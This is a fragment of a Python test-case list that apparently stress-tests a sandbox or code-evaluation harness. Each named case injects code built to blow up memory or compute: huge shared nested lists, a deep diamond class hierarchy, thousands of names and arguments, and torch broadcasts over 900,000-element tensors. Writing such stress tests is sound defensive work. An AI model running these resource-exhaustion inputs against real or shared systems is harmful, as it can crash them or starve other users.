        "lists that share lists, compared",
        step(
            inner="        a = [0] * 4000\n        a = [a] * 4000\n        a = [a] * 4000\n        b = [0] * 4000\n        b = [b] * 4000\n        b = [b] * 4000\n",
            expr=SUM + " * (a == b) * (a in [b] * 4000)",
        ),
    ),
    (
        "lists that share lists, as an index",
        step(inner="        a = [0] * 4000\n        a = [a] * 4000\n        a = [a] * 4000\n", expr="out[a].sum()"),
    ),
    (
        "long lists, again and again",
        step(
            inner="        a = [1] * 4000\n        for i in range(60):\n            for j in range(60):\n                b = all(a) and any(a) and sum(a) and max(a)\n"
        ),
    ),
    (
        "a diamond of classes",
        step(
            glob="class C0:\n    pass\n"
            + "".join(f"class C{i + 1}(C{i}, C{i}):\n    pass\n" for i in range(60))
            + "c = C60()\n",
            expr=SUM + " * c.x",
        ),
    ),
    (
        "many classes that are looked up",
        step(
            glob="class C:\n" + "".join(f"    a{i} = {i}\n" for i in range(3000)) + "c = C()\n",
            inner="        for i in range(60):\n            for j in range(60):\n                z = c.b\n",
        ),
    ),
    (
        "many names that are looked up",
        step(
            glob="".join(f"a{i} = {i}\n" for i in range(3000)),
            inner="        for i in range(60):\n            for j in range(60):\n                z = nothing\n",
        ),
    ),
    (
        "a long call that is not made, again and again",
        step(
            inner="        for i in range(60):\n            for j in range(60):\n                z = f("
            + "'aaaaaaaa', " * 3000
            + ")\n"
        ),
    ),
    (
        "a loss that is stretched",
        step(inner="        a = torch.rand(900000)\n", expr="F.mse_loss(a.unsqueeze(1), a, reduction='sum') * " + SUM),
    ),
    (
        "a distribution that is stretched",
        step(
            inner="        a = torch.rand(900000)\n        d = torch.distributions.Normal(a, 1.0)\n",
            expr="d.log_prob(a.unsqueeze(1)).sum() * " + SUM,
        ),
    ),
    (
        "a product that is stretched",
        step(inner="        a = torch.rand(900, 1, 9, 9)\n", expr="(a @ a.transpose(0, 1)).sum() * " + SUM),
    ),
    ("a list of shapes", step(expr="out.reshape([[[[4]]]]).sum() + out.view([out] * 4000).sum()")),
]
